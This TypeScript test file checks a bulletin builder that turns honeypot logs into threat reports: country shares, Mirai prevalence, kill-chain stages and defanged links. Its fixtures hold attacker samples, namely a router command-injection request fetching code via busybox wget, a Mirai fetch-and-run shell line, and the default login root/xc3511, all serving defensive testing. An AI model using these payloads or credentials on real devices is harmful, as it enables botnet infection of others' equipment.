import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { after, before, beforeEach, describe, it } from 'node:test'
import { loadKnowledge, parsePeriod } from '../../gateway/index.ts'
import { format } from '../../honeypot/formats/honeypot-summary/format.ts'
import {
  type HoneypotStore,
  type Seen,
  startHoneypotStore,
  storeBatch,
} from '../../honeypot/honeypots.test-support.ts'
import { honeypotReader, loadHoneypotKnowledge, refreshHoneypots } from '../../honeypot/index.ts'
import { loadKillChain } from '../../kill-chain/index.ts'
import { buildBulletins } from '../assembly.ts'
import { type Bulletin, faults } from '../model.ts'
import { renderMarkdown } from '../render/markdown.ts'

const { countries } = loadKnowledge()
const killChain = loadKillChain()
const knowledge = loadHoneypotKnowledge()
const now = Date.parse('2026-11-21T00:00:00Z')
const days = parsePeriod('2026-10-02', '2026-10-03', { now })
const languages = ['zh-TW', 'en'] as const

const figure = (model: Bulletin, id: string) => model.figures.find((item) => item.id === id)?.value
const printed = (model: Bulletin): string => Buffer.from(renderMarkdown(model)).toString()
const rows = (model: Bulletin, id: string) =>
  model.sections
    .flatMap(({ blocks }) => blocks)
    .flatMap((block) => (block.kind === 'table' && block.id === id ? block.rows : []))

describe('the part of the honeypots', { timeout: 300_000 }, () => {
  let node: HoneypotStore
  before(async () => {
    node = await startHoneypotStore(1)
  })
  beforeEach(() => node.empty())
  after(() => node.stop())

  const build = (period = days) =>
    buildBulletins(
      {
        killChain,
        honeypots: {
          reader: honeypotReader(node.store, { kind: 'centre' }),
          knowledge,
          countries,
          sources: [],
        },
      },
      { period, parts: ['honeypots'], asOf: now },
    )
  const refresh = () =>
    refreshHoneypots(node.store, {
      knowledge,
      timeZone: 'Asia/Taipei',
      now: () => now,
      finder: () =>
        Promise.resolve((address) =>
          address.startsWith('192.0.2.')
            ? { country: 'VN', network: { number: 64_500, name: 'Example Net' } }
            : { country: null, network: null },
        ),
    })

  it('gives the published year back from counted figures', async () => {
    const file = readFileSync(new URL('./fixtures/published-year.csv', import.meta.url))
    const parser = await format.open(
      { timeZone: 'Asia/Taipei', receivedAt: now, unmapped: 'all', raw: 'none', sensor: '' },
      { position: 0, batch: () => 1n },
    )
    parser.room().set(file)
    parser.accept(file.length)
    const block = parser.block(true)!
    assert.deepEqual(block.setAside, [])
    for (const { table, payload } of block.payloads) await node.store.insert(table, payload, 'year', 1n)
    const { models, empty } = await build(parsePeriod('2022-01-01', '2022-12-31', { now }))
    assert.deepEqual(empty, [])
    for (const language of languages) {
      const model = models[language]
      assert.deepEqual(faults(model), [])
      assert.deepEqual(figure(model, 'honeypots-connections'), { kind: 'count', count: 10_986_524_229 })
      assert.deepEqual(figure(model, 'honeypots-samples'), { kind: 'count', count: 38_717 })
      const text = printed(model)
      for (const number of ['10,986,524,229', '38,717']) assert.ok(text.includes(number), number)
      const overview = model.sections[0]!.blocks.flatMap((each) =>
        each.kind === 'sentences' ? each.paragraphs : [],
      )[0]!
      const cited = overview.spans.flatMap((span) =>
        'figure' in span ? [span.figure] : 'name' in span ? [span.name] : [],
      )
      const [first, second, third] =
        language === 'en' ? ['United States', 'Vietnam', 'Russia'] : ['美國', '越南', '俄羅斯']
      assert.deepEqual(cited.slice(1), [
        first,
        'honeypots-country-1-share',
        second,
        'honeypots-country-2-share',
        third,
        'honeypots-country-3-share',
      ])
      for (const share of ['26.00%', '10.00%', '9.00%']) assert.ok(text.includes(share), share)
      const { part, whole } = figure(model, 'honeypots-first-family-share') as { part: number; whole: number }
      assert.ok(part / whole > 0.5 && text.includes('Mirai'))
      const remote = figure(model, 'honeypots-rce-share') as { part: number; whole: number }
      assert.ok(remote.part / remote.whole > 0.5)
      assert.match(text, language === 'en' ? /figures of this period came counted/ : /已統計的公布數字/)
    }
  })

  it('tells what came, what was tried and brought, what is new, and what follows', async () => {
    const at = days.from + 3600
    const earlier = days.from - 86_400
    await storeBatch(node.store, 1n, [
      ...visit({ time: earlier, source: '192.0.2.1', session: 'a0', sensor: 'pot-0' }),
      ...visit({ time: earlier, source: '192.0.2.1', session: 'a1', sensor: 'pot-9' }),
    ])
    await storeBatch(node.store, 2n, [
      ...visit({ time: at, source: '192.0.2.1', session: 'b0', sensor: 'pot-0' }),
      ...visit({ time: at + 60, source: '192.0.2.2', session: 'b1', sensor: 'pot-1' }),
      ...visit({ time: at + 120, source: '203.0.113.4', session: 'b2', sensor: 'pot-1' }),
      {
        time: at + 130,
        sensor: 'pot-1',
        what: 'request',
        source: '192.0.2.2',
        session: 'b3',
        service: 'http',
        port: 80,
        request:
          'POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n<u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.9 -l /tmp/x)</NewStatusURL></u:Upgrade>',
      },
    ])
    await refresh()
    const { models, executed } = await build()
    for (const language of languages) assert.deepEqual(faults(models[language]), [])
    const { en } = models
    assert.deepEqual(figure(en, 'honeypots-connections'), { kind: 'count', count: 3 })
    assert.deepEqual(figure(en, 'honeypots-connections-change'), { kind: 'change', from: 2, to: 3 })
    assert.deepEqual(figure(en, 'honeypots-sources'), { kind: 'estimate', count: 3, error: 0.006 })
    assert.deepEqual(figure(en, 'honeypots-country-1-share'), { kind: 'share', part: 2, whole: 3 })
    assert.deepEqual(figure(en, 'honeypots-rce-share'), { kind: 'share', part: 1, whole: 1 })
    assert.deepEqual(figure(en, 'honeypots-advice-default-passwords'), { kind: 'count', count: 3 })
    assert.deepEqual(figure(en, 'honeypots-advice-telnet-ssh'), { kind: 'count', count: 3 })
    // What is not known has no rank and stands last.
    assert.deepEqual(
      rows(en, 'table-honeypots-country').map(([rank, name, events]) => [rank, name, events]),
      [
        [
          { kind: 'rank', rank: 1 },
          { kind: 'name', name: 'Vietnam' },
          { kind: 'count', count: 2 },
        ],
        [
          { kind: 'rank', rank: null },
          { kind: 'name', name: '(not known)' },
          { kind: 'count', count: 1 },
        ],
      ],
    )
    assert.deepEqual(rows(en, 'table-honeypots-new-flaw')[0]?.[1], { kind: 'count', count: 1 })
    // A sensor of the previous period that says nothing any more is listed.
    assert.deepEqual(
      rows(en, 'table-honeypots-silent').map(([name, , , connections]) => [name, connections]),
      [
        [
          { kind: 'name', name: 'pot-9' },
          { kind: 'count', count: 0 },
        ],
        [
          { kind: 'name', name: 'pot-0' },
          { kind: 'count', count: 1 },
        ],
        [
          { kind: 'name', name: 'pot-1' },
          { kind: 'count', count: 2 },
        ],
      ],
    )
    const stages = rows(en, 'table-kill-chain-stages').map(([name, events]) => [
      name?.kind === 'text' && name.text,
      events?.kind === 'count' && events.count,
    ])
    // Connections look around; passwords, commands and the flaw exploit; the file is delivered.
    assert.deepEqual(
      stages.filter(([, events]) => events !== 0),
      [
        ['Reconnaissance', 3],
        ['Delivery', 3],
        ['Exploitation', 7],
      ],
    )
    for (const language of languages) {
      const text = printed(models[language])
      assert.doesNotMatch(text, /http:&#47;|https?:\/\/|http&#58;/)
      assert.match(text, /hxxp/)
    }
    assert.equal(executed.get('honeypots.country')?.id, 'details')
    assert.deepEqual((await build()).models, models, 'the same again')
  })

  it('says plainly that there is nothing', async () => {
    const { models, empty } = await build()
    assert.deepEqual(empty, ['honeypots'])
    for (const language of languages) {
      assert.deepEqual(faults(models[language]), [])
      assert.deepEqual(figure(models[language], 'honeypots-connections'), { kind: 'count', count: 0 })
    }
  })
})

/** Somebody comes, tries root/xc3511, fetches something and brings it. */
function visit(seen: Pick<Seen, 'time' | 'source' | 'session' | 'sensor'>): Seen[] {
  const same = { ...seen, session: seen.session!, service: 'telnet', port: 23, protocol: 6 }
  return [
    { ...same, what: 'connect' },
    { ...same, time: seen.time + 1, what: 'credential', user: 'root', password: 'xc3511', accepted: true },
    {
      ...same,
      time: seen.time + 2,
      what: 'command',
      command: 'cd /tmp; wget http://198.18.0.9/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7',
    },
    {
      ...same,
      time: seen.time + 3,
      what: 'file',
      url: 'http://198.18.0.9/bins/mirai.arm7',
      hash: 'a'.repeat(64),
    },
  ]
}
